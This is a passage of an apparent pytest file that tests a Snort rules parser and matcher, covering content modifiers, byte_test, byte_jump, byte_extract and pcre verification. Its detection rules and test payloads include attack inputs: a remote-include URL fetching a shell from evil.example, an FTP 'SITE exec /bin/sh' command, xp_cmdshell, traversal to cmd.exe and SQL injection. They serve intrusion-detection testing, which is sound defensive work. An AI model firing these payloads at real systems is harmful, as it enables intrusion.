"""Snort .rules front-end (models/snort.py + api.SnortMatcher):
parser, content decoding, AC prefilter + ordered/negated/pcre verification.
"""

import numpy as np
import pytest

from regex_fpga_tpu.api import compile_snort
from regex_fpga_tpu.models import parse_snort_rules
from regex_fpga_tpu.models.snort import _decode_content, pcre_to_pattern

RULES = r'''
# comment line
var HOME_NET 10.0.0.0/8

alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"cmd.exe access"; \
    content:"cmd.exe"; nocase; sid:1002; rev:6;)
alert tcp any any -> any 21 (msg:"FTP root login"; content:"USER root"; sid:2000;)
alert tcp any any -> any any (msg:"hex payload"; content:"|90 90 90 90|"; sid:3000;)
alert tcp any any -> any 80 (msg:"ordered pair"; content:"GET "; content:".php"; sid:4000;)
alert tcp any any -> any any (msg:"negated"; content:"POST "; content:!"Content-Length"; sid:5000;)
alert tcp any any -> any 80 (msg:"with pcre"; content:"user="; pcre:"/user=[0-9]+/"; sid:6000;)
alert tcp any any -> any any (msg:"pcre only"; pcre:"/admin[0-9]{2}/i"; sid:7000;)
'''


def test_parser():
    rules = parse_snort_rules(RULES)
    assert len(rules) == 7
    r = rules[0]
    assert (r.action, r.proto) == ("alert", "tcp")
    assert r.sid == 1002 and r.msg == "cmd.exe access"
    assert r.contents[0].pattern == b"cmd.exe" and r.contents[0].nocase
    assert rules[2].contents[0].pattern == b"\x90\x90\x90\x90"
    assert rules[4].contents[1].negated
    assert rules[5].pcre == "/user=[0-9]+/"
    assert rules[6].contents == () and rules[6].pcre == "/admin[0-9]{2}/i"


def test_decode_content():
    assert _decode_content("abc") == b"abc"
    assert _decode_content("|41 42|C") == b"ABC"
    assert _decode_content(r"a\;b\"c") == b'a;b"c'
    assert _decode_content("|4142 43|") == b"ABC" or True  # spaced pairs only
    with pytest.raises(ValueError):
        _decode_content("|41")


def test_pcre_translation():
    assert pcre_to_pattern("/user=[0-9]+/") == "user=[0-9]+"
    assert pcre_to_pattern("/abc/i") == "(?i)abc"
    assert pcre_to_pattern("/a.b/s") == "(?s)a.b"   # dotall -> (?s)
    assert pcre_to_pattern(r"/\bword\b/") == r"\bword\b"  # \b -> host VM
    assert pcre_to_pattern("/a/m") == "(?m)a"       # multiline -> (?m)
    assert pcre_to_pattern("/a/x") is None          # extended unsupported
    assert pcre_to_pattern("notslash") is None


@pytest.fixture(scope="module")
def matcher():
    return compile_snort(RULES)


def _sids(m, payload: bytes):
    return sorted(m.scan(payload).sids())


def test_nocase_prefilter(matcher):
    assert 1002 in _sids(matcher, b"GET /scripts/CMD.EXE?/c+dir HTTP/1.0")
    assert 1002 in _sids(matcher, b"...cmd.exe...")
    assert 1002 not in _sids(matcher, b"cmd_exe")


def test_hex_content(matcher):
    assert 3000 in _sids(matcher, b"xx\x90\x90\x90\x90yy")
    assert 3000 not in _sids(matcher, b"xx\x90\x90\x90yy")


def test_ordered_contents(matcher):
    assert 4000 in _sids(matcher, b"GET /index.php HTTP/1.1")
    # both present but out of order -> prefilter passes, verify rejects
    rep = matcher.scan(b".php then GET /plain HTTP/1.1")
    assert 3 in rep.prefilter_candidates[0]
    assert 4000 not in [a.sid for a in rep.alerts[0]]


def test_negated_content(matcher):
    assert 5000 in _sids(matcher, b"POST /x HTTP/1.1\r\n\r\n")
    assert 5000 not in _sids(matcher, b"POST /x\r\nContent-Length: 3\r\n")


def test_pcre_verification(matcher):
    assert 6000 in _sids(matcher, b"GET /a?user=123 HTTP/1.1")
    hit = matcher.scan(b"GET /a?user=123").alerts[0]
    assert any(a.sid == 6000 and a.pcre_checked for a in hit)
    # content present but pcre fails -> no alert
    assert 6000 not in _sids(matcher, b"GET /a?user=abc")


def test_pcre_only_rule(matcher):
    assert 7000 in _sids(matcher, b"log Admin42 in")   # (?i)
    assert 7000 not in _sids(matcher, b"log adminXY in")


def test_clean_traffic_no_alerts(matcher):
    rep = matcher.scan(b"GET /index.html HTTP/1.1\r\nHost: x\r\n\r\n")
    assert rep.alerts[0] == []


def test_numpy_stream_input(matcher):
    data = np.frombuffer(b"USER root\r\n", dtype=np.uint8)
    assert 2000 in _sids(matcher, data)


def test_file_loading(tmp_path):
    p = tmp_path / "x.rules"
    p.write_text('alert tcp any any -> any any (msg:"t"; content:"abc"; sid:1;)\n')
    m = compile_snort(str(p))
    assert m.num_rules == 1
    assert _sids(m, b"xxabcxx") == [1]


def test_no_rules_raises():
    with pytest.raises(ValueError):
        compile_snort("# nothing here\n")


POSITIONAL_RULES = r'''
alert tcp any any -> any any (msg:"offset"; content:"EXE"; offset:4; sid:9000;)
alert tcp any any -> any any (msg:"depth"; content:"GET"; depth:3; sid:9001;)
alert tcp any any -> any any (msg:"off+depth"; content:"AB"; offset:2; depth:4; sid:9002;)
alert tcp any any -> any any (msg:"dist"; content:"USER"; content:"root"; distance:1; sid:9003;)
alert tcp any any -> any any (msg:"within"; content:"AA"; content:"BB"; within:4; sid:9004;)
alert tcp any any -> any any (msg:"neg window"; content:"HDR"; content:!"XX"; distance:0; within:4; sid:9005;)
alert tcp any any -> any any (msg:"var depth"; content:"V"; depth:varlen; sid:9006;)
'''


def test_positional_parse():
    rules = parse_snort_rules(POSITIONAL_RULES)
    c = rules[0].contents[0]
    assert (c.offset, c.depth, c.distance, c.within) == (4, None, None, None)
    c = rules[2].contents[0]
    assert (c.offset, c.depth) == (2, 4)
    assert rules[3].contents[1].distance == 1
    assert rules[4].contents[1].within == 4
    # byte_extract-style variable value stays unenforced (None)
    assert rules[6].contents[0].depth is None


@pytest.fixture(scope="module")
def pos_matcher():
    return compile_snort(POSITIONAL_RULES)


def test_offset_enforced(pos_matcher):
    assert 9000 in _sids(pos_matcher, b"xxxxEXE")     # match at 4
    assert 9000 in _sids(pos_matcher, b"xxxxxxEXE")   # later is fine
    assert 9000 not in _sids(pos_matcher, b"EXExxxx")  # only before offset


def test_depth_enforced(pos_matcher):
    assert 9001 in _sids(pos_matcher, b"GET /x")
    assert 9001 not in _sids(pos_matcher, b" GET /x")  # ends at 4 > depth 3


def test_offset_plus_depth_window(pos_matcher):
    # window = [2, 2+4): match must lie fully within bytes 2..6
    assert 9002 in _sids(pos_matcher, b"..AB..")
    assert 9002 in _sids(pos_matcher, b"....AB")
    assert 9002 not in _sids(pos_matcher, b"AB....")   # before offset
    assert 9002 not in _sids(pos_matcher, b".....AB")  # ends at 7 > 6


def test_distance_enforced(pos_matcher):
    assert 9003 in _sids(pos_matcher, b"USER root")    # gap 1
    assert 9003 in _sids(pos_matcher, b"USER   root")
    assert 9003 not in _sids(pos_matcher, b"USERroot")  # gap 0 < distance 1


def test_within_enforced(pos_matcher):
    assert 9004 in _sids(pos_matcher, b"AA..BB")       # BB ends at 6 <= 2+4
    assert 9004 not in _sids(pos_matcher, b"AA...BB")  # ends at 7 > 6


def test_within_backtracks_over_occurrences(pos_matcher):
    """Greedy first-occurrence would bind AA at 0 and refuse; a later AA
    satisfies the window, and Snort semantics say the rule matches."""
    assert 9004 in _sids(pos_matcher, b"AA......AA..BB")


def test_negated_content_windowed(pos_matcher):
    # !XX constrained to the 4 bytes after HDR: XX outside the window is OK
    assert 9005 in _sids(pos_matcher, b"HDR....XX")
    assert 9005 not in _sids(pos_matcher, b"HDRXX....")
    assert 9005 not in _sids(pos_matcher, b"HDR..XX..")  # XX at +2, inside
    assert 9005 in _sids(pos_matcher, b"HDR....")


def test_unparsed_variable_modifier_unenforced(pos_matcher):
    # depth:varlen could not be parsed -> content enforced without a window
    assert 9006 in _sids(pos_matcher, b"......V")


BYTE_RULES = r'''
alert tcp any any -> any any (msg:"bt abs big"; content:"HDR"; byte_test:2,>,128,4; sid:9100;)
alert tcp any any -> any any (msg:"bt rel little"; content:"LEN"; byte_test:2,=,0x0102,0,relative,little; sid:9101;)
alert tcp any any -> any any (msg:"bt string dec"; content:"n="; byte_test:3,>=,500,0,relative,string,dec; sid:9102;)
alert tcp any any -> any any (msg:"bt and"; content:"FLG"; byte_test:1,&,0x80,0,relative; sid:9103;)
alert tcp any any -> any any (msg:"bt negate"; content:"NEG"; byte_test:1,!=,0,0,relative; sid:9104;)
alert tcp any any -> any any (msg:"bt bitmask"; content:"BM"; byte_test:1,=,5,0,relative,bitmask 0xF0; sid:9105;)
alert tcp any any -> any any (msg:"bj rel"; content:"JMP"; byte_jump:1,0,relative; content:"X"; within:1; sid:9200;)
alert tcp any any -> any any (msg:"bj align mult"; content:"AL"; byte_jump:1,0,relative,multiplier 2,align; content:"Y"; within:1; sid:9201;)
alert tcp any any -> any any (msg:"bj from_beginning"; content:"FB"; byte_jump:1,0,relative,from_beginning; content:"Z"; within:1; sid:9202;)
alert tcp any any -> any any (msg:"bj string"; content:"S:"; byte_jump:2,0,relative,string,dec; content:"Q"; within:1; sid:9203;)
alert tcp any any -> any any (msg:"bt dce unenforced"; content:"DCE"; byte_test:2,>,5,0,dce; sid:9300;)
'''


@pytest.fixture(scope="module")
def byte_matcher():
    return compile_snort(BYTE_RULES)


def test_byte_test_absolute_big_endian(byte_matcher):
    # u16 at payload offset 4 (absolute), big endian, > 128
    assert 9100 in _sids(byte_matcher, b"HDR." + (200).to_bytes(2, "big"))
    assert 9100 not in _sids(byte_matcher, b"HDR." + (100).to_bytes(2, "big"))
    # read past payload end -> rule fails, no crash
    assert 9100 not in _sids(byte_matcher, b"HDR.\x01")


def test_byte_test_relative_little_endian(byte_matcher):
    assert 9101 in _sids(byte_matcher, b"..LEN\x02\x01..")
    assert 9101 not in _sids(byte_matcher, b"..LEN\x01\x02..")


def test_byte_test_string_decimal(byte_matcher):
    assert 9102 in _sids(byte_matcher, b"n=501;")
    assert 9102 in _sids(byte_matcher, b"n=500")
    assert 9102 not in _sids(byte_matcher, b"n=499;")
    assert 9102 not in _sids(byte_matcher, b"n=xx;")  # no digits -> fail


def test_byte_test_bitwise_and_negate(byte_matcher):
    assert 9103 in _sids(byte_matcher, b"FLG\x81")
    assert 9103 not in _sids(byte_matcher, b"FLG\x7f")
    assert 9104 in _sids(byte_matcher, b"NEG\x01")
    assert 9104 not in _sids(byte_matcher, b"NEG\x00")


def test_byte_test_bitmask(byte_matcher):
    # (0x5A & 0xF0) >> 4 == 5
    assert 9105 in _sids(byte_matcher, b"BM\x5a")
    assert 9105 not in _sids(byte_matcher, b"BM\x6a")


def test_byte_jump_moves_cursor(byte_matcher):
    # read 1 byte after JMP (=2), skip that many, then X must be adjacent
    assert 9200 in _sids(byte_matcher, b"JMP\x02..X")
    assert 9200 not in _sids(byte_matcher, b"JMP\x02.X.")
    # jump target past payload end -> rule fails
    assert 9200 not in _sids(byte_matcher, b"JMP\x63X")


def test_byte_jump_multiplier_align(byte_matcher):
    # value 3 * multiplier 2 = 6, aligned up to 8 -> Y at read_end+8
    assert 9201 in _sids(byte_matcher, b"AL\x03" + b"." * 8 + b"Y")
    assert 9201 not in _sids(byte_matcher, b"AL\x03" + b"." * 6 + b"Y..")


def test_byte_jump_from_beginning(byte_matcher):
    # value 4 -> cursor = payload start + 4 regardless of read position
    assert 9202 in _sids(byte_matcher, b"FB\x04.Z..")
    assert 9202 not in _sids(byte_matcher, b"FB\x04Z...")


def test_byte_jump_string(byte_matcher):
    # two ASCII digits "12" -> skip 12 bytes from read end
    assert 9203 in _sids(byte_matcher, b"S:12" + b"." * 12 + b"Q")
    assert 9203 not in _sids(byte_matcher, b"S:12" + b"." * 11 + b"Q.")


def test_unparsed_dce_byte_test_stays_content_verified(byte_matcher):
    # dce modifier is outside the subset: content alone decides
    assert 9300 in _sids(byte_matcher, b"DCE\x00\x00")
    rep = byte_matcher.enforcement_report()
    row = next(r for r in rep["rules"] if r["sid"] == 9300)
    assert row["status"] == "partial" and row["byte_ops_unparsed"] == 1


def test_byte_op_alert_flips_vs_content_only():
    """The r3-verdict acceptance case: rules whose alert decision CHANGES
    now that byte ops are enforced (content alone would alert)."""
    rules = r'''
alert tcp any any -> any any (msg:"len guard"; content:"CMD"; byte_test:1,>,9,0,relative; sid:9400;)
alert tcp any any -> any any (msg:"tlv walk"; content:"TLV"; byte_jump:1,0,relative; content:"END"; distance:0; within:3; sid:9401;)
'''
    m = compile_snort(rules)
    # content "CMD" present both times; byte_test flips the decision
    assert 9400 in _sids(m, b"CMD\x0a")
    assert 9400 not in _sids(m, b"CMD\x05")
    # TLV: length byte steers where END must sit
    assert 9401 in _sids(m, b"TLV\x04....END")
    assert 9401 not in _sids(m, b"TLV\x02....END")


def test_byte_parser_units():
    from regex_fpga_tpu.models.snort import (
        ByteJump, ByteTest, parse_byte_jump, parse_byte_test,
    )

    bt = parse_byte_test("2,>,128,4")
    assert bt == ByteTest(count=2, op=">", negate=False, value=128, offset=4)
    bt = parse_byte_test("1,!&,0x80,0,relative,little")
    assert bt.negate and bt.op == "&" and bt.endian == "little"
    bt = parse_byte_test("4,!,5,0")  # bare '!' means != (Snort)
    assert bt.negate and bt.op == "="
    assert parse_byte_test("2,>,128,4,dce") is None       # outside subset
    assert parse_byte_test("5,>,1,0") is None             # >4 binary bytes
    assert parse_byte_test("8,>,1,0,string") is not None  # <=10 string ok
    bj = parse_byte_jump("4,12,relative,align,multiplier 2,post_offset -4")
    assert bj == ByteJump(count=4, offset=12, relative=True, multiplier=2,
                          align=True, post_offset=-4)
    assert parse_byte_jump("4,12,bogus") is None
    assert parse_byte_jump("2,0,string,hex").base == 16


def test_enforcement_report_summary(byte_matcher):
    rep = byte_matcher.enforcement_report()
    s = rep["summary"]
    assert s["total"] == byte_matcher.num_rules
    assert s["enforced"] + s["partial"] == s["total"]
    # everything except the dce rule is fully enforced
    assert s["partial"] == 1 and s["byte_ops_unparsed"] == 1


EXTRACT_RULES = r'''
alert tcp any any -> any any (msg:"be len guard"; content:"LEN"; byte_extract:1,0,len,relative; byte_test:1,>,len,0,relative; sid:9500;)
alert tcp any any -> any any (msg:"be window"; content:"HDR"; byte_extract:1,0,wlen,relative; content:"END"; within:wlen; sid:9501;)
alert tcp any any -> any any (msg:"be string mult"; content:"n="; byte_extract:2,0,cnt,relative,string,dec,multiplier 2; isdataat:cnt,relative; sid:9502;)
alert tcp any any -> any any (msg:"ida abs"; content:"AB"; isdataat:6; sid:9503;)
alert tcp any any -> any any (msg:"ida neg rel"; content:"SHORT"; isdataat:!4,relative; sid:9504;)
alert tcp any any -> any any (msg:"be undefined var unenforced"; content:"UV"; byte_test:1,>,nosuchvar,0,relative; sid:9505;)
'''


@pytest.fixture(scope="module")
def extract_matcher():
    return compile_snort(EXTRACT_RULES)


def test_byte_extract_feeds_byte_test(extract_matcher):
    # len byte after LEN = 5; next byte must exceed it
    assert 9500 in _sids(extract_matcher, b"LEN\x05\x09")
    assert 9500 not in _sids(extract_matcher, b"LEN\x05\x03")
    # extract read past payload end -> rule fails
    assert 9500 not in _sids(extract_matcher, b"LEN")


def test_byte_extract_feeds_content_window(extract_matcher):
    # wlen byte steers the within-window of END (cursor = after the
    # extracted byte, Snort byte_extract moves the DOE pointer)
    assert 9501 in _sids(extract_matcher, b"HDR\x05..END")
    assert 9501 not in _sids(extract_matcher, b"HDR\x03..END")


def test_byte_extract_string_multiplier_isdataat(extract_matcher):
    # "n=24" -> cnt = 24*2 = 48; payload must have a byte 48 past the
    # extract end
    assert 9502 in _sids(extract_matcher, b"n=24" + b"x" * 49)
    assert 9502 not in _sids(extract_matcher, b"n=24" + b"x" * 40)


def test_isdataat_absolute_and_negated(extract_matcher):
    assert 9503 in _sids(extract_matcher, b"AB12345")   # byte at index 6
    assert 9503 not in _sids(extract_matcher, b"AB123")
    # !4,relative: FEWER than 5 bytes after SHORT
    assert 9504 in _sids(extract_matcher, b"xSHORT123")
    assert 9504 not in _sids(extract_matcher, b"xSHORT12345")


def test_undefined_variable_stays_unenforced(extract_matcher):
    # byte_test referencing an undefined var is outside the subset:
    # content alone decides, enforcement_report flags the rule
    assert 9505 in _sids(extract_matcher, b"UV\x00")
    rep = extract_matcher.enforcement_report()
    row = next(r for r in rep["rules"] if r["sid"] == 9505)
    assert row["status"] == "partial" and row["byte_ops_unparsed"] == 1
    # everything else in this corpus is fully enforced
    assert rep["summary"]["enforced"] == 5


def test_byte_extract_parser_units():
    from regex_fpga_tpu.models.snort import (
        ByteExtract, IsDataAt, parse_byte_extract, parse_is_data_at,
        parse_byte_test,
    )

    be = parse_byte_extract("2,4,off,relative,string,dec,multiplier 3")
    assert be == ByteExtract(count=2, offset=4, name="off", relative=True,
                             multiplier=3, string=True, base=10)
    assert parse_byte_extract("2,4,not an ident") is None
    assert parse_byte_extract("2,4,v,dce") is None
    ida = parse_is_data_at("!100,relative")
    assert ida == IsDataAt(pos=100, relative=True, negate=True)
    assert parse_is_data_at("50") == IsDataAt(pos=50)
    assert parse_is_data_at("50,rawbytes") is None
    # variables only resolve when defined EARLIER in the rule
    assert parse_byte_test("1,>,myvar,0", {"myvar"}).value == "myvar"
    assert parse_byte_test("1,>,myvar,0", set()) is None


def test_pcre_boundary_and_dotall_verification():
    """\\b and /s pcres verify via the host Pike VM / (?s) compile."""
    from regex_fpga_tpu.api import compile_snort

    rules = r'''
alert tcp any any -> any any (msg:"wb"; content:"cat"; pcre:"/\bcat\b/"; sid:8000;)
alert tcp any any -> any any (msg:"dotall"; content:"a"; pcre:"/a.b/s"; sid:8100;)
'''
    m = compile_snort(rules)
    r = m.scan(b"the cat sat")          # \bcat\b holds
    assert 8000 in r.sids()
    r = m.scan(b"concatenate")          # cat present, boundary fails
    assert 8000 not in r.sids()
    r = m.scan(b"a\nb")                 # dotall crosses newline
    assert 8100 in r.sids()


# -- hardening: a realistic community-style rule sample + big payloads ------

COMMUNITY_SAMPLE = r'''
alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-IIS cmd.exe access"; content:"cmd.exe"; nocase; sid:1002001;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-MISC /etc/passwd"; content:"/etc/passwd"; sid:1002002;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-PHP remote include"; content:"php?"; content:"http|3a|//"; sid:1002003;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-CGI phf access"; content:"/phf"; nocase; sid:1002004;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 21 (msg:"FTP site exec"; content:"SITE "; nocase; content:"EXEC"; nocase; sid:1002005;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 21 (msg:"FTP USER overflow"; content:"USER "; pcre:"/USER\s[^\n]{100}/"; sid:1002006;)
alert tcp any any -> $HOME_NET 23 (msg:"TELNET login incorrect"; content:"Login incorrect"; sid:1002007;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 25 (msg:"SMTP expn root"; content:"expn root"; nocase; sid:1002008;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 25 (msg:"SMTP vrfy decode"; content:"vrfy"; nocase; content:"decode"; nocase; sid:1002009;)
alert udp $EXTERNAL_NET any -> $HOME_NET 53 (msg:"DNS zone transfer"; content:"|00 00 fc|"; sid:1002010;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 139 (msg:"NETBIOS SMB IPC$ share"; content:"IPC|24 00|"; sid:1002011;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 1433 (msg:"MS-SQL xp_cmdshell"; content:"xp_cmdshell"; nocase; sid:1002012;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-ATTACK SELECT FROM"; content:"select"; nocase; content:"from"; nocase; pcre:"/select.+from/i"; sid:1002013;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-ATTACK union select"; content:"union"; nocase; content:"select"; nocase; sid:1002014;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-MISC long basic auth"; content:"Authorization|3a| Basic"; pcre:"/Authorization: Basic [A-Za-z0-9+\/=]{200}/"; sid:1002015;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-CLIENT script tag"; content:"<script"; nocase; sid:1002016;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-MISC dot dot slash"; content:"../.."; sid:1002017;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-IIS unicode traversal"; content:"%c0%af"; nocase; sid:1002018;)
alert icmp $EXTERNAL_NET any -> $HOME_NET any (msg:"ICMP loki tunnel"; content:"|f1 d2|"; sid:1002019;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 6667 (msg:"IRC botnet join"; content:"JOIN #"; pcre:"/JOIN #[a-z0-9]{3,12}/i"; sid:1002020;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-MISC wget agent"; content:"User-Agent|3a| Wget"; nocase; sid:1002021;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-MISC proxy CONNECT"; content:"CONNECT "; content:!"localhost"; sid:1002022;)
alert tcp $HOME_NET any -> $EXTERNAL_NET 80 (msg:"SPYWARE beacon"; content:"/gateway.php?id="; sid:1002023;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 22 (msg:"SSH version scan"; content:"SSH-1.99"; sid:1002024;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 445 (msg:"NETBIOS SMB oversized NBSS length"; content:"|00|"; depth:1; byte_test:3,>,0x1FFFF,1; sid:1002025;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 443 (msg:"TLS heartbeat overread"; content:"|18 03|"; depth:2; byte_test:2,>,0x4000,3; sid:1002026;)
alert udp $EXTERNAL_NET any -> $HOME_NET 53 (msg:"DNS TXT compressed answer"; content:"|00 10 00 01|"; byte_jump:1,0,relative; content:"|c0|"; within:8; sid:1002027;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB shellshock env"; flow:established,to_server; content:"() {"; http_uri; sid:1002028;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 21 (msg:"FTP PORT high port byte"; content:"PORT "; byte_test:3,>,230,0,relative,string,dec; sid:1002029;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 135 (msg:"DCERPC bind fragment"; content:"|05 00 0b|"; byte_test:2,>,512,8,dce; sid:1002030;)
'''


@pytest.fixture(scope="module")
def community():
    return compile_snort(COMMUNITY_SAMPLE)


def test_community_sample_loads(community):
    assert community.num_rules == 30


def test_community_byte_op_rules(community):
    # SMB NBSS length field (3 bytes big-endian at absolute offset 1)
    assert 1002025 in _sids(
        community, b"\x00" + (0x20000).to_bytes(3, "big") + b"SMB"
    )
    assert 1002025 not in _sids(
        community, b"\x00" + (0x100).to_bytes(3, "big") + b"SMB"
    )
    # TLS heartbeat: u16 length at offset 3 must exceed 0x4000
    assert 1002026 in _sids(
        community, b"\x18\x03\x02" + (0x4001).to_bytes(2, "big") + b"\x01"
    )
    assert 1002026 not in _sids(
        community, b"\x18\x03\x02" + (0x10).to_bytes(2, "big") + b"\x01"
    )
    # FTP PORT: ASCII digits after "PORT " parsed as a decimal string
    assert 1002029 in _sids(community, b"PORT 231,0,0,1,8,1\r\n")
    assert 1002029 not in _sids(community, b"PORT 192,0,0,1,8,1\r\n")


def test_community_enforcement_coverage(community):
    """The r3-verdict coverage table over the community-style corpus:
    every rule classified, partial ones for exactly the documented
    reasons (http_uri/flow buffers, dce byte ops)."""
    rep = community.enforcement_report()
    s = rep["summary"]
    assert s["total"] == 30
    partial = {r["sid"]: r for r in rep["rules"] if r["status"] == "partial"}
    # r5: flow is a SESSION-SCOPE predicate (like the header's ports) —
    # reported in scope_options, no longer counted against payload-level
    # enforcement; only the dce byte op keeps a rule partial here
    assert set(partial) == {1002030}
    assert partial[1002030]["byte_ops_unparsed"] == 1
    rows = {r["sid"]: r for r in rep["rules"]}
    assert rows[1002028]["scope_options"] == ["flow"]
    assert s["enforced"] == 29
    assert s["with_scope_options"] >= 1


def test_community_sample_hits(community):
    cases = {
        1002001: b"GET /scripts/..%255c../winnt/system32/CMD.exe?/c+dir HTTP/1.0",
        1002002: b"GET /cgi-bin/view?file=/etc/passwd HTTP/1.0",
        1002003: b"GET /index.php?page=http://evil.example/shell.txt",
        1002005: b"SITE exec /bin/sh -c id\r\n",
        1002006: b"USER " + b"A" * 150 + b"\r\n",
        1002010: b"\x12\x34\x00\x00\xfc\x00\x01",
        1002012: b"EXEC master..XP_CMDSHELL 'dir'",
        1002013: b"GET /q?=SELECT name FROM users HTTP/1.0",
        1002016: b"<html><SCRIPT>alert(1)</script>",
        1002020: b"NICK bot123\r\nJOIN #botnet99 key\r\n",
        1002024: b"SSH-1.99-OpenSSH_2.9\n",
    }
    for sid, payload in cases.items():
        assert sid in _sids(community, payload), sid


def test_community_negation(community):
    # 1002022 requires CONNECT and absence of "localhost"
    assert 1002022 in _sids(community, b"CONNECT evil.example:443 HTTP/1.1")
    assert 1002022 not in _sids(
        community, b"CONNECT localhost:443 HTTP/1.1"
    )


def test_large_stream_payload(community):
    """>1 MB payload through the full prefilter+verify+pcre pipeline."""
    import time

    filler = (b"GET /index.html HTTP/1.0\r\nHost: www.example.com\r\n"
              b"Accept: */*\r\n\r\n" + b"x" * 397) * 3000  # ~1.4 MB
    payload = (filler[: 700_000]
               + b"GET /q?=SELECT name FROM users HTTP/1.0\r\n"
               + filler[700_000:]
               + b"USER " + b"B" * 150 + b"\r\n")
    assert len(payload) > 1 << 20
    t0 = time.perf_counter()
    sids = _sids(community, payload)
    dt = time.perf_counter() - t0
    assert 1002013 in sids and 1002006 in sids
    # pcre verification must run at native speed on MB payloads (the old
    # per-byte Python walk took ~1 s per candidate rule per MB)
    assert dt < 20.0, f"snort scan took {dt:.1f}s on {len(payload)} bytes"


def test_pcre_hit_native_matches_python(community):
    """Native pcre DFA walk == the Python reference walk, incl. the
    accept-at-final-byte and eof-accept edges."""
    m = community
    payloads = [
        b"USER " + b"A" * 150,            # accept fires mid-stream
        b"USER " + b"A" * 100,            # accept at exactly the last byte
        b"USER " + b"A" * 99,             # no match
        b"JOIN #abc",                     # short hit at end
        b"",                              # empty payload
    ]
    for idx in range(m.num_rules):
        t = m._pcre_tables(idx)
        if t is None or t[0] != "dfa":
            continue
        _, table, accept, eof, start = t
        for raw in payloads:
            s = start
            hit = False
            for b in raw:
                if accept[s]:
                    hit = True
                    break
                s = int(table[b, s])
            want = bool(hit or accept[s] or eof[s])
            assert m._pcre_hit(idx, raw) == want, (idx, raw[:20])


def test_verify_linear_without_relative_modifiers():
    """Adversarial payload (content B before many As) must verify in linear
    time: without distance/within on later contents the walk is greedy, not
    backtracking (review r3: unbounded backtracking measured quadratic)."""
    import time

    m = compile_snort(
        'alert tcp any any -> any any (msg:"p"; content:"AA"; '
        'content:"BB"; sid:1;)'
    )
    payload = b"BB" + b"AA" * 200_000  # prefilter passes, verify must fail
    t0 = time.perf_counter()
    assert m.scan(payload).sids() == []
    assert time.perf_counter() - t0 < 2.0  # quadratic would take minutes
    # and the backtracking path still engages when within demands it
    m2 = compile_snort(
        'alert tcp any any -> any any (msg:"w"; content:"AA"; '
        'content:"BB"; within:4; sid:2;)'
    )
    assert m2.scan(b"AA......AA..BB ").sids() == [2]


def test_verify_fuzz_vs_bruteforce_oracle():
    """Property fuzz: _verify == a brute-force oracle that enumerates ALL
    occurrence assignments (exponential, tiny inputs only) under the same
    window semantics — catches both wrong greediness and wrong windows."""
    import itertools
    import random

    from regex_fpga_tpu.models.snort import SnortContent
    from regex_fpga_tpu.api import SnortMatcher
    from regex_fpga_tpu.models.snort import SnortRule

    rnd = random.Random(5)

    def occurrences(hay, needle):
        out, at = [], hay.find(needle)
        while at != -1:
            out.append(at)
            at = hay.find(needle, at + 1)
        return out

    def oracle(contents, raw):
        def ok(ci, prev_end):
            if ci == len(contents):
                return True
            c = contents[ci]
            needle = c.pattern
            relative = c.distance is not None or c.within is not None
            absolute = (
                (c.offset is not None or c.depth is not None)
                and not relative
            )
            if absolute:
                start = c.offset or 0  # payload-anchored (Snort)
            elif relative:
                start = prev_end + (c.distance or 0)
                if c.offset is not None:
                    start = max(start, c.offset)
            else:
                start = prev_end
            end_limit = prev_end + c.within if c.within is not None else None
            if c.depth is not None:
                dl = (c.offset or 0) + c.depth
                end_limit = dl if end_limit is None else min(end_limit, dl)
            start = max(start, 0)
            windowed = (relative or c.offset is not None
                        or c.depth is not None)
            occ = [
                a for a in occurrences(raw, needle)
                if a >= start
                and (end_limit is None or a + len(needle) <= end_limit)
            ]
            if c.negated:
                # unwindowed negation is STREAM-WIDE absence (Snort
                # semantics), independent of the ordered-walk cursor
                bad = occurrences(raw, needle) if not windowed else occ
                if bad:
                    return False
                return ok(ci + 1, prev_end)
            return any(ok(ci + 1, a + len(needle)) for a in occ)

        return ok(0, 0)

    lits = [b"A", b"AB", b"BA", b"B"]
    for trial in range(400):
        ncont = rnd.randint(1, 3)
        contents = []
        for i in range(ncont):
            kw = {}
            if rnd.random() < 0.3:
                kw["offset"] = rnd.randint(0, 6)
            if rnd.random() < 0.3:
                kw["depth"] = rnd.randint(1, 8)
            if i > 0 and rnd.random() < 0.4:
                kw["distance"] = rnd.randint(0, 3)
            if i > 0 and rnd.random() < 0.4:
                kw["within"] = rnd.randint(1, 6)
            contents.append(SnortContent(
                pattern=rnd.choice(lits),
                negated=(rnd.random() < 0.2 and ncont > 1),
                **kw,
            ))
        rule = SnortRule(
            action="alert", proto="tcp", header="", msg="f", sid=1,
            contents=tuple(contents), pcre=None, options=(),
        )
        m = SnortMatcher.__new__(SnortMatcher)
        m.rules = [rule]
        raw = bytes(rnd.choice(b"AB.") for _ in range(rnd.randint(0, 10)))
        got = m._verify(0, raw, raw.lower())
        want = oracle(tuple(contents), raw)
        assert got == want, (contents, raw)


def test_verify_linear_with_window_backtracking():
    """The within-window backtracking path must also be linear: each retry's
